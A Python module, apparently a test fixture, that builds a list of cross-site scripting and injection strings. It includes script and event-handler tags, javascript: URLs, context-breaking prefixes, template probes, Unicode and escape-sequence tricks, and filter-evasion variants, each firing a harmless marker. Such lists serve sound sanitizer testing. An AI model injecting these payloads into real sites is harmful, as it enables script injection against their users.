"""Strings that would act if one of them were put into a page as it is."""

ACT = "window.hacked=1"

_TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script >{}</script >", "<script/x>{}</script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src="x" onerror="{}">',
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<a href=javascript:{}>x</a>", "<a href='java\tscript:{}'>x</a>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<video><source onerror={}>", "<audio src=x onerror={}>", "<marquee onstart={}>",
    "<math><mi xlink:href='javascript:{}'>x", "<form action=javascript:{}><input type=submit>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=javascript:{}//>",
    "<link rel=stylesheet href=javascript:{}>", "<style>@import 'javascript:{}'</style>",
    "<div style='background:url(javascript:{})'>", "<p onmouseover={}>x", "<b hx-on:load={}>x</b>",
    "<b hx-get=/ hx-trigger=load hx-on::after-request={}>x</b>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
)  # fmt: skip
_BREAKS = ('"', "'", "`", ">", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>",
           "</style>", "</pre>", "</svg>", '"}', "\\", "%22%3E", "&quot;&gt;",
           "{{7*7}}", "${7*7}")  # fmt: skip
_ODD = (
    "{{ ''.__class__ }}", "{% raw %}", "\u202egnp.exe", "\u2028" + ACT, "\u2029" + ACT, "\ufeff",
    "\x1b]8;;javascript:window.hacked=1\x07x\x1b]8;;\x07",
    "\x1b[31m<img src=x onerror=window.hacked=1>",
    "\x9b31m<script>window.hacked=1</script>", "javascript:window.hacked=1",
    "data:text/html,<script>",
    "&#60;script&#62;window.hacked=1&#60;/script&#62;", "+ADw-script+AD4-window.hacked=1",
    "<<script>window.hacked=1//<</script>", "<scr<script>ipt>window.hacked=1</script>",
    "\ufb01\u0130\u017f<\u017fcript>window.hacked=1</\u017fcript>", "__proto__", "constructor",
)  # fmt: skip

STRINGS = [tag.format(ACT) for tag in _TAGS]
STRINGS += [end + tag.format(ACT) for end in _BREAKS for tag in _TAGS[::4]]
STRINGS += [*_BREAKS, *_ODD]
